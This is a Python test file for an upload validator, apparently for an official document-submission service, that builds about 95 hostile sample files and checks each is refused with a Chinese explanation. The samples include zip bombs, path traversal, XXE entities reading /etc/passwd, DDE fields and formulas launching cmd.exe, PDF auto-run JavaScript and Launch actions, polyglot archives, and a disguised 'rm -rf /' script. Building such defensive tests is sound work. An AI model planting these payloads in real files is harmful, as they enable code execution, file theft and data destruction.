# ruff: noqa: E501  (a table of cases reads down its columns)
import io
import struct
import zipfile
import zlib

import pytest

from campaign.rules.errors import Invalid
from tests.papers.evidence.conftest import Content, Desk
from tests.papers.evidence.offices import (
    CT,
    HEAD,
    MAIN,
    REL,
    archive_of,
    blown_up,
    changed,
    crowded,
    document,
    docx,
    docx_parts,
    docx_with,
    doubled,
    field,
    formula,
    lying,
    old_office,
    overlapping,
    relation,
    typed,
    xlsx,
    xlsx_with,
)
from tests.papers.evidence.pdfs import locked, packed, pdf, stream
from tests.papers.evidence.pictures import chunk, giant_jpg, giant_png, jpg, png, saved, with_chunk

LAUGHS = '<!DOCTYPE a [<!ENTITY b "ha"><!ENTITY c "&b;&b;&b;">]>'
FILE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
OUTWARD = '<!DOCTYPE a SYSTEM "http://127.0.0.1:9/x.dtd">'
SCRIPT = "<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
JAR = archive_of({"META-INF/MANIFEST.MF": "Main-Class: A", "A.class": "x"})

ACTS = "会自动运行的内容"
ATTACHED = "附有其他文件"
EMBEDDED = "嵌有其他文件"
OUTSIDE = "指向外部的链接"
FETCHES = "自动取数"
BROKEN = "文件不完整或已损坏"
HIDDEN = "夹带了压缩包"


def bit(out: bytearray, at: int) -> None:
    out[at + 8] |= 1


def from_a_stub(out: bytes) -> bytes:
    return b"MZ" + bytes(200) + out


def two_hundred_megabytes_of_objects() -> bytes:
    return packed({1: b"<< /Type /Catalog /Pages 2 0 R >>"}, data=b"1 0 " + b" " * (200 << 20))


OFFICE: dict[str, tuple[str, Content, str]] = {
    "a zip bomb among the pictures": ("自查.docx", lambda: blown_up("word/media/a.png", 250), "展开后太大"),
    "a zip bomb as text": ("自查.docx", lambda: blown_up("word/styles.xml", 80), "展开后太大"),
    "sizes that lie": ("自查.docx", lying(500), BROKEN),
    "entries that overlap": ("自查.docx", overlapping, BROKEN),
    "a hundred thousand entries": ("自查.docx", lambda: crowded(100_000), "展开后太大"),
    "a part twice": ("自查.docx", doubled, BROKEN),
    "an entry under a password": ("自查.docx", changed(docx(), "word/document.xml", bit), "打开密码"),
    "a file under a password": ("自查.docx", old_office("EncryptedPackage"), "打开密码"),
    "an unknown packing": ("自查.docx", archive_of(docx_parts(), zipfile.ZIP_LZMA), BROKEN),
    "a path out of the archive": ("自查.docx", docx_with("word/../../etc/passwd.xml"), BROKEN),
    "a program before the archive": ("自查.docx", from_a_stub(docx()), "这是程序"),
    "something after the archive": ("自查.docx", docx() + b"<script>", BROKEN),
    "something before the directory": ("自查.docx", docx()[:-22] + b"x" * 9 + docx()[-22:], BROKEN),
    "an archive of files": ("材料.docx", archive_of({"a.docx": docx()}), "这是压缩包"),
    "an archive within": ("自查.docx", docx_with("word/media/image1.png", docx()), EMBEDDED),
    "a program within": ("自查.docx", docx_with("word/media/image1.png", b"MZ\x90\0"), EMBEDDED),
    "a macro": ("自查.docx", docx_with("word/vbaProject.bin"), "有宏"),
    "a type with macros": ("统计表.xlsx", typed("application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "有宏"),
    "a sheet of macros": ("统计表.xlsx", xlsx_with("xl/macrosheets/sheet1.xml", "<a/>"), "有宏"),
    "a binary workbook": ("统计表.xlsx", typed("application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "二进制"),
    "a template": ("统计表.xlsx", typed(f"{CT}.template.main+xml"), "模板"),
    "a link to a workbook": ("统计表.xlsx", xlsx_with("xl/externalLinks/externalLink1.xml", "<a/>"), OUTSIDE),
    "a connection": ("统计表.xlsx", xlsx_with("xl/connections.xml", "<a/>"), OUTSIDE),
    "a template from elsewhere": ("自查.docx", docx(relations=relation("attachedTemplate", "http://evil.example/a.dotm")), OUTSIDE),
    "a picture from elsewhere": ("自查.docx", docx(relations=relation("image", "//evil.example/a.png")), OUTSIDE),
    "a link that runs": ("自查.docx", docx(relations=relation("hyperlink", "javascript:alert(1)")), FETCHES),
    "an object": ("自查.docx", docx_with("word/embeddings/oleObject1.bin"), EMBEDDED),
    "a workbook behind a chart": ("自查.docx", docx_with("word/embeddings/Microsoft_Excel_Sheet1.xlsx"), EMBEDDED),
    "a page as a chunk": ("自查.docx", docx(relations=relation("aFChunk", "a.htm", outside=False)), EMBEDDED),
    "a control": ("统计表.xlsx", xlsx_with("xl/activeX/activeX1.xml", "<a/>"), EMBEDDED),
    "a field that starts a program": ("自查.docx", docx(field(" DDEAUTO c:\\\\cmd.exe ")), FETCHES),
    "a field in pieces": ("自查.docx", docx(field(" DD", "{}", "EAUTO c:\\\\cmd.exe ")), FETCHES),
    "a short field": ("自查.docx", docx('<w:p><w:fldSimple w:instr="dde cmd /c"/></w:p>'), FETCHES),
    "a formula that starts a program": ("统计表.xlsx", formula("cmd|'/c calc'!A0"), FETCHES),
    "entities": ("自查.docx", docx_with("word/document.xml", document(head=HEAD + LAUGHS)), BROKEN),
    "entities from a file": ("统计表.xlsx", xlsx_with("xl/sharedStrings.xml", f"{HEAD}{FILE}<sst xmlns='{MAIN}'>&x;</sst>"), BROKEN),
    "a declaration from outside": ("统计表.xlsx", xlsx_with("xl/worksheets/_rels/sheet1.xml.rels", f"{HEAD}{OUTWARD}<a/>"), BROKEN),
    "a declaration in UTF-16": ("自查.docx", docx_with("docProps/custom.xml", f"{OUTWARD}<a/>".encode("utf-16")), BROKEN),
    "a declaration in an old drawing": ("自查.docx", docx_with("word/a.vml", OUTWARD), BROKEN),
    "elements without end": ("自查.docx", docx_with("word/document.xml", HEAD + "<a>" * 5000), BROKEN),
    "a tag without end": ("自查.docx", lambda: docx_with("word/document.xml", HEAD + "<a b='" + "x" * 5_000_000), BROKEN),
    "two main parts": ("自查.docx", docx_with("_rels/.rels", f"<a><Relationship Type='{REL}/officeDocument' Target='a'/><Relationship Type='{REL}/officeDocument' Target='b'/></a>"), BROKEN),
    "half of it": ("自查.docx", docx()[: len(docx()) // 2], BROKEN),
    "a wrong check sum": ("自查.docx", changed(docx(), "word/document.xml", lambda out, at: out.__setitem__(at + 16, out[at + 16] ^ 1)), BROKEN),
    "slides": ("汇报.docx", typed("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"), "演示文稿"),
}  # fmt: skip

PDFS: dict[str, tuple[str, Content, str]] = {
    "a script on opening": ("盖章件.pdf", pdf(catalog="/OpenAction 10 0 R", extra=[SCRIPT]), ACTS),
    "a script under another spelling": ("盖章件.pdf", pdf(catalog="/Open#41ction 10 0 R", extra=["<< /S /J#61vaScr#69pt /JS (1) >>"]), ACTS),
    "a script among packed objects": ("盖章件.pdf", packed({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 11 0 R >>", 11: SCRIPT.encode()}), ACTS),
    "a script by name": ("盖章件.pdf", pdf(catalog="/Names << /JavaScript << /Names [(a) 10 0 R] >> >>", extra=[SCRIPT]), ACTS),
    "a script behind what looks like data": ("盖章件.pdf", pdf(catalog="% >> stream\n/OpenAction 10 0 R", extra=[SCRIPT]), ACTS),
    "a program on opening": ("盖章件.pdf", pdf(catalog="/OpenAction << /S /Launch /F (cmd.exe) >>"), ACTS),
    "a place in the web on opening": ("盖章件.pdf", pdf(catalog="/OpenAction 10 0 R", extra=["<< /S /URI /URI (http://evil.example) >>"]), ACTS),
    "a packed place in the web": ("盖章件.pdf", packed({1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 11 0 R >>", 11: b"<< /S /URI /URI (http://evil.example) >>"}), ACTS),
    "an act on turning the page": ("盖章件.pdf", pdf(page="/AA << /O << /S /URI /URI (http://evil.example) >> >>"), ACTS),
    "a form that sends itself": ("盖章件.pdf", pdf(page="/Annots [<< /A << /S /SubmitForm >> >>]"), ACTS),
    "another file": ("盖章件.pdf", pdf(extra=[stream(b"x", "/Type /EmbeddedFile")]), ATTACHED),
    "a list of files": ("盖章件.pdf", pdf(catalog="/Names << /EmbeddedFiles << /Names [] >> >>"), ATTACHED),
    "a film": ("盖章件.pdf", pdf(page="/Annots [<< /Subtype /RichMedia >>]"), ATTACHED),
    "a dynamic form": ("盖章件.pdf", pdf(catalog="/AcroForm << /Fields [] /XFA 10 0 R >>", extra=[stream(b"<xdp/>")]), "XFA"),
    "a password": ("盖章件.pdf", locked(b"1234"), "密码"),
    "a restriction": ("盖章件.pdf", locked(), "密码"),
    "a web page in front": ("盖章件.pdf", b"<html><script>1</script>" + pdf(), "网页"),
    "something in front": ("盖章件.pdf", b"GARBAGE" + pdf(), "前面夹带了别的内容"),
    "an archive behind": ("盖章件.pdf", pdf() + JAR, "夹带了"),
    "a web page behind": ("盖章件.pdf", pdf() + b"<html>", "后面夹带了别的内容"),
    "an archive within that unpackers find": ("盖章件.pdf", pdf(extra=[stream(b"Rar!\x1a\x07\x01\x00")]), HIDDEN),
    "half of it": ("盖章件.pdf", pdf()[:300], "PDF 不完整"),
    "only a head": ("盖章件.pdf", b"%PDF-1.7\n%%EOF", "PDF 不完整"),
    "more pages than there are": ("盖章件.pdf", pdf(count=1_000_000), "最多 2000 页"),
    "a picture of four milliard points": ("盖章件.pdf", pdf(extra=[stream(b"x", "/Subtype /Image /Width 65535 /Height 65535")]), "太大"),
    "objects that unpack without end": ("盖章件.pdf", two_hundred_megabytes_of_objects, "结构不常见"),
    "objects packed to hide them": ("盖章件.pdf", pdf(extra=[stream(b"48656c6c6f>", "/Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode")]), "结构不常见"),
}  # fmt: skip

PICTURES: dict[str, tuple[str, Content, str]] = {
    "a png of four milliard points": ("照片.png", giant_png(), "图片太大（65535×65535 像素），最多 5000 万像素"),
    "a jpg of four milliard points": ("照片.jpg", giant_jpg(), "图片太大"),
    "a png without points": ("照片.png", giant_png(0, 9), "图片不完整或已损坏"),
    "a png that is an archive too": ("照片.png", png() + JAR, HIDDEN),
    "a jpg that is an archive too": ("照片.jpg", jpg() + JAR, HIDDEN),
    "a jpg with a rar": ("照片.jpg", jpg() + b"Rar!\x1a\x07\x01\x00", HIDDEN),
    "a gif that is an archive too": ("照片.jpg", saved("GIF") + JAR, "GIF"),
    "half a jpg": ("照片.jpg", jpg()[:2000], "图片不完整或已损坏"),
    "half a png": ("照片.png", png(900, 900, "RGB", compress_level=0)[:9000], "图片不完整或已损坏"),
    "a png with a bomb as text": ("照片.png", with_chunk(b"zTXt", b"a\0\0" + zlib.compress(b" " * (80 << 20))), "图片不完整或已损坏"),
    "a png that lies about its pixels": ("照片.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">LLBBBBB", 5000, 5000, 8, 2, 0, 0, 0)) + chunk(b"IDAT", b"x") + chunk(b"IEND", b""), "图片不完整或已损坏"),
    "only a head": ("照片.jpg", b"\xff\xd8\xff\xe0", "图片不完整或已损坏"),
}  # fmt: skip

DISGUISED: dict[str, tuple[str, Content, str]] = {
    "a program as a paper": ("通知.pdf", b"MZ\x90\0" + bytes(100), "这是程序"),
    "a program for Linux": ("通知.pdf", b"\x7fELF" + bytes(100), "这是程序"),
    "a script with a picture's name": ("照片.jpg", b"#!/bin/sh\nrm -rf /\n", "这是程序"),
    "a web page as a table": ("统计表.xlsx", b"<html><table><tr><td>1</td></tr></table></html>", "网页"),
    "a web page as a picture": ("照片.jpg", b"\xef\xbb\xbf<!DOCTYPE html><script>alert(1)</script>", "网页"),
    "a drawing that runs": ("照片.png", b'<?xml version="1.0"?><svg onload="alert(1)"/>', "网页"),
    "an archive as a paper": ("材料.pdf", archive_of({"a.txt": "x"}), "这是压缩包"),
    "a program of Java as a paper": ("材料.docx", JAR, "这是程序"),
    "a shortcut": ("材料.pdf", b"L\0\0\0\x01\x14\x02\0" + bytes(80), "这是程序"),
    "noise": ("盖章件.pdf", bytes(range(256)) * 40, "认不出这是什么文件"),
}  # fmt: skip

HOSTILE = [
    pytest.param(*case, id=f"{group}: {title}")
    for group, cases in (("office", OFFICE), ("pdf", PDFS), ("picture", PICTURES), ("disguised", DISGUISED))
    for title, case in cases.items()
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "says"), HOSTILE)
def test_a_hostile_file_is_refused_with_what_to_do(
    name: str, content: Content, says: str, desk: Desk
) -> None:
    with pytest.raises(Invalid) as refused:
        desk.hand_in(name, content)
    assert says in str(refused.value)
    assert any(advice in str(refused.value) for advice in ("请", "最多"))


def test_there_are_enough_hostile_files() -> None:
    assert len(HOSTILE) >= 90


def test_the_honest_files_that_the_hostile_ones_are_made_from_pass(desk: Desk) -> None:
    honest = (
        docx(),
        xlsx(),
        pdf(),
        packed({1: b"<< /Type /Catalog /Pages 2 0 R >>"}),
        jpg(),
        png(),
    )
    names = ("docx", "xlsx", "pdf", "pdf", "jpg", "png")
    for ending, content in zip(names, honest, strict=True):
        assert desk.hand_in(f"材料.{ending}", content).media == ending


def test_a_zip_in_memory_is_what_the_builders_say() -> None:
    assert zipfile.ZipFile(io.BytesIO(docx())).testzip() is None
